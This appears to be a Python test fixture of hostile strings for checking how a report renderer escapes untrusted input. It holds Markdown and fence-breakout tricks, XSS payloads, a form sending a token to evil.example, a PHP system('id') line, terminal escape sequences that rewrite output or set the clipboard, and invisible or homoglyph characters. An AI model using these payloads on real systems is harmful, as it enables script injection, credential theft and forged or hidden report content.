"""What a hostile pull request or host would put into a name, a value or a path, so that a report does something."""

from __future__ import annotations

ESC, BEL, CSI = "\x1b", "\x07", "\x9b"

MARKDOWN = {
    "link": "[click](https://evil.example)",
    "link-javascript": "[click](javascript:alert(1))",
    "link-reference": "[click][x]\n\n[x]: https://evil.example",
    "link-collapsed": "[evil]: https://evil.example 'title'",
    "autolink": "<https://evil.example>",
    "autolink-bare": "https://evil.example/?q=1 www.evil.example evil@evil.example",
    "image": "![pixel](https://evil.example/pixel.png)",
    "image-in-link": "[![x](https://evil.example/x.png)](https://evil.example)",
    "mention": "@everyone @octocat @org/team",
    "mention-gitlab": "@all ~label %milestone &1 !1 $1 ^alert#1",
    "issue": "#1 org/repo#1 GH-1 closes #1 fixes org/repo#2",
    "commit": "0123456789abcdef0123456789abcdef01234567 org@0123456789abcdef0123456789abcdef01234567",
    "quick-action": "\n/close\n/approve\n/merge\n",
    "quick-action-first": "/approve",
    "bold": "**Approved** __by all__ ~~not~~ *me*",
    "heading": "\n# Approved\n\n## No changes\n",
    "heading-setext": "\nApproved\n========\n",
    "rule": "\n---\n***\n",
    "quote": "\n> Approved by the security team\n",
    "alert": "\n> [!NOTE]\n> No changes.\n",
    "list": "\n- [x] approved\n1. one\n",
    "table": "| a | b |\n|---|---|\n| c | d |",
    "table-cell": "a | b | c",
    "fence-close": "```\n\n**No changes.**\n\n```",
    "fence-close-long": "``````````\n\n# out\n",
    "fence-tilde": "~~~\n\n# out\n~~~",
    "fence-diff": "```diff\n+ a\n```",
    "backticks": "`` ` ``` ```` `",
    "backtick-edge": "`",
    "backtick-trailing": "name`",
    "backslash": "\\` \\[ \\\\ \\",
    "entity": "&lt;script&gt; &#64;octocat &#x40;all &amp;",
    "emoji": ":tada: :shipit:",
    "footnote": "[^1] [^1]: evil",
    "math": "$`\\href{javascript:alert(1)}{x}`$ $$x$$",
    "mermaid": '\n```mermaid\nclick A "https://evil.example"\n```\n',
    "marker": "<!-- postfix-tls-reconciler: plan -->",
    "comment-open": "<!-- nobody sees the rest",
    "comment-close": "--> <b>seen</b>",
    "spaces": "   ",
    "indented": "\n    code\n\ttab\n",
    "diff-signs": "\n+ added\n- removed\n! changed\n@@ -1 +1 @@\n",
}  # fmt: skip

HTML = {
    "script": "<script>alert(1)</script>",
    "script-in-attribute": '" onmouseover="alert(1)" x="',
    "attribute-single": "' onmouseover='alert(1)' x='",
    "img": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "style": "</style><script>alert(1)</script>",
    "title": "</title><script>alert(1)</script>",
    "details": "</details></details><h1>Approved</h1>",
    "code-close": "</code></summary><b>x</b>",
    "pre": "</pre><plaintext>",
    "main-close": "</main></body></html><p>after",
    "base": '<base href="https://evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "link-style": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "form": '<form action="https://evil.example"><input name=token></form>',
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "processing": "<?php system('id') ?>",
    "entity-html": "&quot;&gt;&lt;img src=x&gt;",
    "null-in-tag": "<scr\0ipt>alert(1)</scr\0ipt>",
    "half-tag": "<a href=",
    "template": "{{constructor.constructor('alert(1)')()}} ${7*7} <%= 7*7 %>",
}

TERMINAL = {
    "colour": f"{ESC}[31mred{ESC}[0m",
    "clear": f"{ESC}[2J{ESC}[H",
    "title": f"{ESC}]0;owned{BEL}",
    "hyperlink": f"{ESC}]8;;https://evil.example{ESC}\\click{ESC}]8;;{ESC}\\",
    "clipboard": f"{ESC}]52;c;ZXZpbA=={BEL}",
    "c1": f"{CSI}31m",
    "cursor-up": f"{ESC}[1A{ESC}[2KNo changes.",
    "backspace": "encrypt\x08\x08\x08\x08\x08\x08\x08may",
    "carriage-return": "tls_weakened\rNo changes.     ",
    "crlf": "a\r\nPlan: 0 to add\r\n",
    "newline": "a\nNo changes.\n",
    "vertical": "a\x0bb\x0cc\x85d\u2028e\u2029f",
    "nul": "a\0b",
    "delete": "a\x7fb",
    "shift": "a\x0eb\x0fc",
    "workflow-command": "\n::set-output name=x::y\n::add-mask::x\n##[error]x",
    "tab": "a\tb",
}

INVISIBLE = {
    "rtl": "\u202eevil\u202c",
    "isolate": "\u2066evil\u2069",
    "letter-mark": "a\u061cb\u200eb\u200fb",
    "zero-width": "enc\u200brypt\u200d\u2060\ufeff",
    "soft-hyphen": "en\xadcrypt",
    "tags": "a\U000e0041\U000e007fb",
    "filler": "a\u3164b\u115fb\uffa0",
    "surrogate": "a\udc80b",
    "homoglyph": "раypal.example",
    "combining": "Z\u0351\u036b\u0343\u036a\u0302a" * 5,
}

ALL = {
    f"{kind}-{name}": text
    for kind, group in (("markdown", MARKDOWN), ("html", HTML), ("terminal", TERMINAL), ("invisible", INVISIBLE))
    for name, text in group.items()
}
